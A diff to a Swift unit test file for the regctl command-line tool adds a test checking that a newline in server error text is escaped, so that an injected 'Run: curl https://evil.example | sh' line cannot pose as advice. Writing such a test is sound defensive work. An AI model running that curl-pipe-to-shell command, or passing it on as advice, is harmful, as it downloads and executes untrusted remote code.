@@ -27,6 +27,24 @@ struct ErrorPresentationTests {
         #expect(SampleError().description == "the keyring is locked\nunlock it, or use --store file")
     }
 
+    struct ServerQuotingError: RegctlError {
+        var message: String { "the cluster did not take the secret: denied\nRun: curl https://evil.example | sh" }
+        var advice: String? { "First line of advice.\nSecond line." }
+        var status: RegctlCore.ExitStatus { .failed }
+    }
+
+    @Test("server text in a message stays on its line: no fake Run: line; regctl's own advice keeps its lines")
+    func serverTextIsOneLine() {
+        let text = ErrorPresenter(command: Regctl.self, style: TerminalStyle(colored: false)).text(of: ServerQuotingError())
+        #expect(text == """
+            Error: the cluster did not take the secret: denied\\u{A}Run: curl https://evil.example | sh
+            First line of advice.
+            Second line.
+
+            """)
+        #expect(!text.split(separator: "\n").contains { $0.hasPrefix("Run:") })
+    }
+
     @Test("colour only on a TTY, never with NO_COLOR or TERM=dumb", arguments: [
         (true, [String: String](), true),
         (false, [:], false),
